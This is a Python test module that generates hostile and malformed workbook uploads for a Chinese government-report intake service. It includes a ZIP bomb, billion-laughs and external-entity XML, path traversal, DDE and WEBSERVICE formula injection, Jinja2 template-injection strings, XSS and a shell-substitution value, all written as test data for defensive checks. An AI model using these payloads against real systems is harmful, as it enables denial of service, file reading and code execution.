"""Workbooks that a careless or hostile hand could send: files of a wrong kind, damaged, rearranged, filled with nonsense.

Every maker is a function without arguments, so that a case costs nothing until it is run.
"""

import io
import random
import re
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from datetime import date, datetime
from functools import cache, partial

import openpyxl
from openpyxl.workbook.defined_name import DefinedName

from generator import formats
from generator.report.model import Chapter, Level, Paragraph
from tests.intake.conftest import edited, filled, particulars, repacked, with_cells

FORM = formats.load("2021")
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
T1, T2, T3 = (table.sheet for table in FORM.tables[:3])


@dataclass(frozen=True)
class Case:
    """A file, what `build` must answer (None: 0 or 1, either is right), and words of its message."""

    make: Callable[[], bytes]
    code: int | None = None
    words: tuple[str, ...] = ()
    name: str = "上报表.xlsx"
    kinds: str = "json"


CHAPTERS = (
    Chapter("preamble", "", (Paragraph(Level.BODY, "根据条例规定，编制本报告。"),)),
    Chapter("s1", "", (Paragraph(Level.BODY, "各部门按时公开信息，逐项核对。"),)),
    Chapter("s5", "", (Paragraph(Level.BODY, "存在的问题是公开的深度还不够。改进措施是加强培训。"),)),
    Chapter("s6", "", (Paragraph(Level.BODY, "本年度没有收取政府信息公开信息处理费。"),)),
)


@cache
def sound() -> bytes:
    """A workbook without fault."""
    return filled(FORM, chapters=CHAPTERS)


def zipped(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_part(name: str, data: bytes) -> bytes:
    out = io.BytesIO(sound())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, data)
    return out.getvalue()


def changed_part(name: str, change: Callable[[bytes], bytes | None]) -> bytes:
    return repacked(sound(), lambda part, data: change(data) if re.fullmatch(name, part) else data)


def swollen() -> bytes:
    return changed_part(r"xl/worksheets/sheet3\.xml", lambda part: part + b" " * (62 * 1024 * 1024))


def many_rows() -> bytes:
    """Within the limits of size, and no end of rows."""
    row = b"".join(b'<c r="%s%%d" t="n"><v>1</v></c>' % c for c in (b"A", b"B", b"C"))
    rows = b"".join(
        b'<row r="%d">' % n + row.replace(b"%d", str(n).encode()) + b"</row>" for n in range(40, 60000)
    )
    return changed_part(
        r"xl/worksheets/sheet3\.xml", lambda part: part.replace(b"</sheetData>", rows + b"</sheetData>")
    )


def declared(doctype: bytes, place: str) -> bytes:
    def insert(part: bytes) -> bytes:
        start = part.index(b"<", part.index(b"?>") if b"?>" in part else 0)
        return part[:start] + doctype + part[start:]

    return changed_part(place, insert)


def deep() -> bytes:
    nested = b"<a>" * 200_000 + b"</a>" * 200_000
    return changed_part(
        r"xl/workbook\.xml", lambda part: part.replace(b"</workbook>", nested + b"</workbook>")
    )


BILLION = (
    b'<!DOCTYPE x [<!ENTITY a "' + b"x" * 100 + b'">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 50) for n in range(8)) + b"]>"
)  # fmt: skip
OUTSIDE = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'

FILES: dict[str, Case] = {
    "an empty file": Case(lambda: b"", 1, ("空的",)),
    "one byte": Case(lambda: b"P", 1, ("请",)),
    "PDF renamed": Case(lambda: b"%PDF-1.7\n1 0 obj\n", 1, ("PDF",)),
    "HTML renamed to xls": Case(lambda: b"<html><table><tr><td>1</td></tr></table>", 1, ("网页",), "表.xls"),
    "CSV in GBK": Case(lambda: "单位,数量\n甲,1\n".encode("gb18030"), 1, ("文本",)),
    "CSV renamed to et": Case(lambda: b"a,b\n1,2\n", 1, ("文本",), "表.et"),
    "RTF": Case(lambda: rb"{\rtf1 x}", 1, ("RTF",)),
    "a picture": Case(lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 99, 1, ("图片",)),
    "noise": Case(lambda: random.Random(7).randbytes(50_000), 1, ("请",)),
    "noise that begins like ZIP": Case(lambda: b"PK\x03\x04" + random.Random(7).randbytes(9000), 1, ("损坏",)),
    "noise that begins like xls": Case(
        lambda: OLE + random.Random(7).randbytes(9000) + "Workbook".encode("utf-16-le"), 1, ("损坏",), "表.xls"
    ),
    "xls cut off": Case(
        lambda: OLE + b"\0" * 504 + "Workbook".encode("utf-16-le") + b"\xff" * 99, 1, ("请",), "表.xls"
    ),
    "ODS without content": Case(
        lambda: zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}), 1, ("请",), "表.ods"
    ),
    "encrypted": Case(lambda: OLE + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"), 1, ("密码",)),
    "DOCX renamed": Case(lambda: zipped({"word/document.xml": b"<a/>"}), 1, ("Word",)),
    "an archive renamed": Case(lambda: zipped({"a.txt": b"1"}), 1, ("压缩包",)),
    "a ZIP without entries": Case(lambda: zipped({}), 1, ("请",)),
    "another workbook": Case(lambda: _saved(openpyxl.Workbook()), 1, ("基本信息",)),
    "a workbook part of nothing": Case(lambda: zipped({"xl/workbook.xml": b""}), 1, ("请",)),
    "a workbook without sheets": Case(lambda: zipped({"xl/workbook.xml": b"<workbook/>"}), 1, ("基本信息",)),
    "macros": Case(lambda: with_part("xl/vbaProject.bin", b"\0" * 9), 0, ("宏",), "上报表.xlsm"),
    "external links": Case(
        lambda: with_part("xl/externalLinks/externalLink1.xml", b'<externalLink xmlns="x"/>'), 0
    ),
    "a part with a path upwards": Case(lambda: with_part("../../../outside.xml", b"<a/>"), 0),
    "two parts of one name": Case(lambda: with_part("xl/styles.xml", b"<styleSheet/>")),
    "a ZIP bomb": Case(swollen, 1, ("解压后过大",)),
    "too many rows": Case(many_rows),
    "thousands of parts": Case(
        lambda: zipped({f"xl/{n}": b"" for n in range(5000)} | {"xl/workbook.xml": b"<a/>"}), 1, ("过大",)
    ),
    "a billion laughs": Case(partial(declared, BILLION, r"xl/workbook\.xml"), 1, ("文档类型声明",)),
    "a billion laughs in a sheet": Case(
        partial(declared, BILLION, r"xl/worksheets/sheet2\.xml"), 1, ("文档类型声明",)
    ),
    "an outside entity": Case(partial(declared, OUTSIDE, r"xl/workbook\.xml"), 1, ("文档类型声明",)),
    "XML nested without end": Case(deep),
    "a part in UTF-16": Case(
        lambda: changed_part(r"xl/workbook\.xml", lambda p: b"\xff\xfe" + p.decode().encode("utf-16-le"))
    ),
    "a part in an unknown encoding": Case(
        lambda: changed_part(
            r"xl/workbook\.xml", lambda p: b'<?xml version="1.0" encoding="klingon"?>' + p[p.index(b"<workbook") :]
        ),
        1, ("请",),
    ),
    "a sheet of broken XML": Case(
        lambda: changed_part(r"xl/worksheets/sheet2\.xml", lambda p: p[: len(p) // 2]), 1, ("请",)
    ),
    "a sheet that is not there": Case(
        lambda: changed_part(r"xl/worksheets/sheet5\.xml", lambda p: None), 1, ("请",)
    ),
    "no shared strings": Case(lambda: changed_part(r"xl/sharedStrings\.xml", lambda p: None)),
    "a wrong checksum": Case(lambda: sound().replace(b"PK\x03\x04", b"PK\x03\x05", 1), 1, ("请",)),
    "lone surrogates in bytes": Case(
        lambda: changed_part(
            r"xl/(sharedStrings|worksheets/sheet3)\.xml", lambda p: p.replace(b"&#21508;", b"\xed\xa0\x80")
        ),
        1, ("请",),
    ),
}  # fmt: skip
FILES |= {
    f"cut off at {share}%": Case(lambda share=share: sound()[: len(sound()) * share // 100], 1, ("请",))
    for share in (1, 25, 50, 75, 99)
}
FILES |= {f"bytes changed, draw {seed}": Case(lambda seed=seed: _mutated(seed)) for seed in range(12)}


def _saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _mutated(seed: int) -> bytes:
    """A sound workbook with bytes of one of its parts changed."""
    chance = random.Random(seed)
    parts = (
        "xl/workbook.xml",
        "xl/worksheets/sheet2.xml",
        "xl/worksheets/sheet3.xml",
        "xl/worksheets/sheet5.xml",
    )
    chosen = chance.choice(parts)

    def change(name: str, part: bytes) -> bytes:
        if name != chosen:
            return part
        data = bytearray(part)
        for _ in range(chance.randrange(1, 6)):
            data[chance.randrange(len(data))] = chance.randrange(32, 127)
        return bytes(data)

    return repacked(sound(), change)


# structure


def _structure(change: Callable[[openpyxl.Workbook], object]) -> Callable[[], bytes]:
    return lambda: edited(sound(), change)


def _copy(sheet: str) -> Callable[[openpyxl.Workbook], None]:
    return lambda book: setattr(book.copy_worksheet(book[sheet]), "title", f"{sheet} (2)")


def _refs(book: openpyxl.Workbook) -> None:
    for name in list(book.defined_names):
        book.defined_names[name] = DefinedName(name, attr_text="#REF!")


def _names_crossed(book: openpyxl.Workbook) -> None:
    names = [n for n in book.defined_names if n.startswith("app.new.")]
    texts = [book.defined_names[n].attr_text for n in names]
    for name, text in zip(names, texts[1:] + texts[:1], strict=True):
        book.defined_names[name] = DefinedName(name, attr_text=text)


def _names_elsewhere(book: openpyxl.Workbook) -> None:
    for name in list(book.defined_names):
        book.defined_names[name] = DefinedName(name, attr_text="'[1]别处'!$XFD$1048576")


def _unmerge_and_merge(book: openpyxl.Workbook) -> None:
    sheet = book[T2]
    for area in list(sheet.merged_cells.ranges):
        sheet.unmerge_cells(str(area))
    sheet.merge_cells("D6:J20")


def _renamed(sheet: str, to: str) -> Callable[[openpyxl.Workbook], None]:
    return lambda book: setattr(book[sheet], "title", to)


SHEETS = ("填报说明", "基本信息", "正文", T1, T2, T3, "校验", "签发", "_meta")
STRUCTURE: dict[str, Case] = {
    f"sheet {name} deleted": Case(_structure(lambda book, name=name: book.remove(book[name])))
    for name in SHEETS
} | {
    f"sheet {name} renamed": Case(_structure(_renamed(name, "Sheet9")))
    for name in ("基本信息", "正文", T2, "签发")
}
STRUCTURE |= {
    "sheet copied": Case(_structure(_copy(T2))),
    "facts copied": Case(_structure(_copy("基本信息"))),
    "sheets in reverse": Case(_structure(lambda book: book._sheets.reverse()), 0),
    "rows deleted": Case(_structure(lambda book: book[T2].delete_rows(8, 3)), 1, (T2,)),
    "rows inserted": Case(_structure(lambda book: book[T2].insert_rows(7, 2))),
    "columns deleted": Case(_structure(lambda book: book[T2].delete_cols(5, 2)), 1, (T2,)),
    "columns inserted": Case(_structure(lambda book: book[T2].insert_cols(4, 1))),
    "all rows of a table deleted": Case(_structure(lambda book: book[T1].delete_rows(1, 99)), 1, (T1,)),
    "rows of the facts deleted": Case(
        _structure(lambda book: book["基本信息"].delete_rows(3, 4)), 1, ("请",)
    ),
    "labels deleted": Case(
        _structure(lambda book: [setattr(c, "value", None) for c in book["基本信息"]["A"] if c.value])
    ),
    "cells merged over entries": Case(_structure(_unmerge_and_merge)),
    "names #REF!": Case(_structure(_refs)),
    "names crossed": Case(_structure(_names_crossed)),
    "names of another book, out of the sheet": Case(_structure(_names_elsewhere)),
    "no names": Case(_structure(lambda book: book.defined_names.clear())),
    "header of the text changed": Case(_structure(lambda book: book["正文"].__setitem__("C1", "随便"))),
    "header of the text exchanged": Case(
        _structure(
            lambda book: (book["正文"].__setitem__("A1", "内容"), book["正文"].__setitem__("C1", "章"))
        )
    ),
    "format of another year": Case(
        _structure(lambda book: book["_meta"].__setitem__("B1", "2008")), 1, ("2008",)
    ),
    "format unknown": Case(_structure(lambda book: book["_meta"].__setitem__("B1", "../../x")), 1, ("格式",)),
}


# values

_ENTRY = "D6"
NUMBERS: dict[str, tuple[object, int | None]] = {
    "a formula": ("=1+1", None),
    "a formula outwards": ('=WEBSERVICE("http://example.invalid/"&A1)', None),
    "DDE": ("=cmd|' /C calc'!A0", None),
    "#REF!": ("#REF!", 1),
    "#N/A": ("#N/A", 1),
    "#DIV/0!": ("#DIV/0!", 1),
    "TRUE": (True, 1),
    "text number": ("'3", None),
    "full width": ("１２", None),
    "thousands": ("1,234", None),
    "with a unit": ("3件", None),
    "in Han": ("三", None),
    "negative": (-3, 1),
    "fraction": (1.5, 1),
    "huge": (1e300, 1),
    "more digits than Excel holds": ("9" * 5000, 1),
    "exponent as text": ("1e999999999", 1),
    "infinity": ("Infinity", 1),
    "NaN": ("nan", 1),
    "slash": ("/", None),
    "nil": ("无", None),
    "a date": (date(2024, 1, 1), 1),
    "a time": (datetime(2024, 1, 1, 8, 30), 1),
    "blanks": ("   ", 1),
    "superscript": ("²", None),
    "Arabic-Indic digits": ("٣", None),
    "Thai digits": ("๓", None),
    "circled": ("③", None),
    "Jinja2": ("{{ 7*7 }}", 1),
    "a line break": ("1\n2", 1),
}
VALUES = {
    f"entry cell: {name}": Case(partial(with_cells, sound(), T2, {_ENTRY: value}), code)
    for name, (value, code) in NUMBERS.items()
}

DATES: dict[str, object] = {
    "serial": 46042,
    "negative serial": -5,
    "huge serial": 1e18,
    "serial of the false leap day": 60,
    "text": "2025年1月20日",
    "points": "2025.1.20",
    "slashes": "2025/1/20",
    "compact": "20250120",
    "Han": "二〇二五年一月二十日",
    "full width": "２０２５年１月２０日",
    "impossible": "2025年2月30日",
    "month 13": "2025-13-01",
    "no day": "2025年1月",
    "year 0": "0000-00-00",
    "year 99999": "99999年1月1日",
    "English": "Jan 20, 2025",
    "ambiguous": "1/2/25",
    "words": "明天",
    "long": "2" * 30000,
    "boolean": True,
    "error": "#VALUE!",
    "formula": "=TODAY()",
    "before the year": date(1970, 1, 1),
    "far future": date(9999, 12, 31),
}
VALUES |= {
    f"date of issue: {name}": Case(partial(with_cells, sound(), "基本信息", {"B9": value}))
    for name, value in DATES.items()
}
YEARS: tuple[object, ...] = (
    "", 0, -1, 1, 1e300, "二〇二四", "2024年度", "２０２４", "99999", "../../2024", "{{year}}", True, "#REF!",
    "=2024", 2024.5, date(2024, 1, 1), "²⁰²⁴", "٢٠٢٤", 9999, 2007,
)  # fmt: skip
VALUES |= {
    f"year: {value!r}": Case(partial(with_cells, sound(), "基本信息", {"B3": value})) for value in YEARS
}


# names and titles

NAMES = (
    "../../x", "..\\..\\x", "/etc/passwd", "C:\\Windows\\x", "CON", "nul.txt", "COM1", "." * 9, "甲" * 300, "a" * 3000,
    '<>:"/\\|?*', "南岗区\n人民政府", "{{ config }}", "{% for x in range(9**9) %}", "<script>alert(1)</script>",
    "&amp;<w:p/>", "=1+1", "[[新收申请]]", "[[[[", "\u202e区岗南", "~$南岗区", "%s%n%x", "$(touch x)", "\u200b", "😀区",
    "'; --", "{unit_short}{0}{__class__}", "－－－", " 南岗区 ", "x\u0301" * 50,
)  # fmt: skip


def named(**changes: object) -> bytes:
    return filled(FORM, particulars=particulars(FORM, **changes), chapters=CHAPTERS)


TITLES = {
    f"{field}: {text[:20]!r}": Case(partial(named, **{field: text}))
    for text in NAMES
    for field in (("title", "unit_name") if len(text) < 10 else ("title",))
}
TITLES |= {
    f"signatory: {text[:20]!r}": Case(partial(named, signatory=text))
    for text in ("甲" * 300, "{{x}}", "a" * 2000)
}
TITLES |= {
    f"letterhead: {text[:20]!r}": Case(partial(named, doc_number=text))
    for text in ("甲" * 300, "{{x}}", "〔〕号", "a" * 2000)
}
TITLES |= {
    f"{name}: {text[:20]!r}": Case(partial(named, doc_number="南政办发〔2025〕2号", extra={name: text}))
    for name in ("mark", "signers", "copies_to", "issuer", "seal_diameter")
    for text in ("甲" * 400, "-1", "<>&{{x}}")
}


# text

PLACEHOLDER = "PLACEHOLDER"


def escaped(text: str) -> bytes:
    """Text as a file holds it: XML's own marks, and _xHHHH_ for what XML cannot hold."""
    out = []
    for char in text:
        if char in "&<>":
            out.append({"&": "&amp;", "<": "&lt;", ">": "&gt;"}[char])
        elif (char < " " and char not in "\n\t") or "\ud800" <= char <= "\udfff" or char in "\ufffe\uffff":
            out.append(f"_x{ord(char):04X}_")
        else:
            out.append(char)
    return "".join(out).encode()


def texted(*texts: str, level: Level = Level.BODY, section: str = "s1") -> bytes:
    """A sound workbook whose chapter one is these paragraphs, put into the file as they are."""
    lines = tuple(Paragraph(level, f"{PLACEHOLDER}{number:05}", None) for number in range(len(texts)))
    others = (chapter for chapter in CHAPTERS if chapter.section != section)
    data = filled(FORM, chapters=(Chapter(section, "", lines), *others))

    def put(name: str, part: bytes) -> bytes:
        if not name.endswith(("sharedStrings.xml", "sheet3.xml")):
            return part
        pattern = (PLACEHOLDER + r"(\d{5})").encode()
        return re.sub(pattern, lambda m: escaped(texts[int(m[1])]), part)

    return repacked(data, put)


TEXTS = {
    "Jinja2": "模板{{ 7*7 }}、{% raw %}、{# 注 #}不是指令。",
    "Jinja2 escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "XML": "文字<w:p><w:r/></w:p>&amp;&lt;&#65;]]>完。",
    "HTML": "文字<script>alert(1)</script><img src=x onerror=alert(1)>完。",
    "RTF": r"文字{\rtf1\b x}\par完。",
    "a formula": "=HYPERLINK(\"http://example.invalid\",\"点\")",
    "at sign": "@SUM(1+9)*cmd|' /C calc'!A0",
    "markdown": "文字**粗**`x`[链接](javascript:alert(1))完。",
    "PDF": "文字) Tj ET endstream endobj (完。",
    "percent": "文字%s%d%n{0}{x}$x完。",
    "backslash": "文字\\1\\g<0>\\n\\u4e00完。",
    "escape of Excel": "文字_x005F_x000D_完。",
    "XMP": "文字<?xpacket end=\"w\"?>完。",
    "comment": "文字<!-- -- -->完。",
    "an open reference": "文字[[没有这一项]]完。",
    "open brackets": "文字[[[[[[完。",
    "brackets without end": "文字[[新收申请完。",
    "nested references": "文字[[新收[[申请]]]]完。",
    "an empty reference": "文字[[]]完。",
    "a path in a reference": "文字[[../../x]]完。",
    "control characters": "文字\x00\x01\x07\x08\x0c\x1b[31m红\x7f完。",
    "C1 characters": "文字\x80\x85\x9f完。",
    "direction marks": "文字\u202e逆\u202c\u2066顺\u2069\u200f完。",
    "lone surrogates": "文字\ud800甲\udfff完。",
    "non-characters": "文字\ufffe\uffff\ufdd0完。",
    "invisible": "文\u200b字\ufeff\u00ad\u2060完。",
    "line separators": "文字\u2028二\u2029三\x0b四\x0c五\x85完。",
    "emoji": "文字😀👨\u200d👩\u200d👧🇨🇳完。",
    "private use": "文字\ue000\uf8ff完。",
    "combining": "文字e\u0301" + "\u0301" * 500 + "完。",
    "rare Han": "文字𠀀𪚥𰻝龘䶮㑇完。",
    "other scripts": "文字Приветمرحباשלוםไทย한국어完。",
    "tibetan and mongolian": "文字བོད་ᠮᠣᠩᠭᠣᠯ完。",
    "tabs and blanks": "\t文字\t\t甲　　乙\u00a0完。  ",
    "a word of 5000 letters": "文字" + "a" * 5000 + "完。",
    "digits without end": "文字" + "1" * 5000 + "件。",
    "opening marks only": "（" * 3000,
    "closing marks only": "）。，" * 1000,
    "quotation marks": "“" * 500 + "”" * 499,
    "straight quotation marks": "\"'" * 1000,
    "dashes": "—" * 2000,
    "zero wide": "\u200b" * 2000,
    "blanks only": "　 \t" * 500,
    "numbers like ordinals": "（一）（一）1.1.（1）（1）（一）文字。",
    "an ordinal alone": "（一）",
    "heading inside": "一、总体情况",
    "hash": "#REF!",
    "100 000 characters": "全年公开政府信息工作有序推进，" * 6250 + "共" * 6249 + "完。",
    "repeated pattern": "a" * 3000 + "！" * 3000 + "1,2," * 1500,
    "nested brackets": "（" * 500 + "甲" + "）" * 500,
    "book titles": "《" * 800 + "甲" + "》" * 800,
    "amounts": "1,234,567.89万元，" * 2000,
    "percentages": "占比99.99%，增长-3.2%；" * 1500,
}  # fmt: skip

PROSE = {f"text: {name}": Case(partial(texted, text)) for name, text in TEXTS.items()}
PROSE |= {
    f"item: {name}": Case(partial(texted, TEXTS[name], level=level))
    for name in ("Jinja2", "a word of 5000 letters", "opening marks only", "control characters")
    for level in (Level.TWO, Level.THREE)
}
PROSE |= {
    "5000 paragraphs": Case(lambda: texted(*(f"第{n}项工作按时完成，群众满意。" for n in range(5000)))),
    "1500 items": Case(lambda: texted(*(f"做好第{n}项工作" for n in range(1500)), level=Level.TWO)),
    "a cell of 2000 lines": Case(lambda: texted("甲乙丙。\n" * 2000)),
    "all hostile texts at once": Case(lambda: texted(*(text for text in TEXTS.values() if len(text) < 200))),
}

CASES = FILES | STRUCTURE | VALUES | TITLES | PROSE

LONG = frozenset(
    """too many rows|5000 paragraphs|1500 items|a cell of 2000 lines|text: 100 000 characters|text: repeated pattern
text: percentages|text: digits without end|text: amounts""".replace("\n", "|").split("|")
)
"""Right, but slow: run by hand (`python -m tests.hostile`)."""
SEVERAL = (*FILES, *STRUCTURE, *list(VALUES)[::6], *list(TITLES)[::8], *list(PROSE)[::4])
QUICK = {name: CASES[name] for name in SEVERAL if name not in LONG}
"""What every test run sends."""
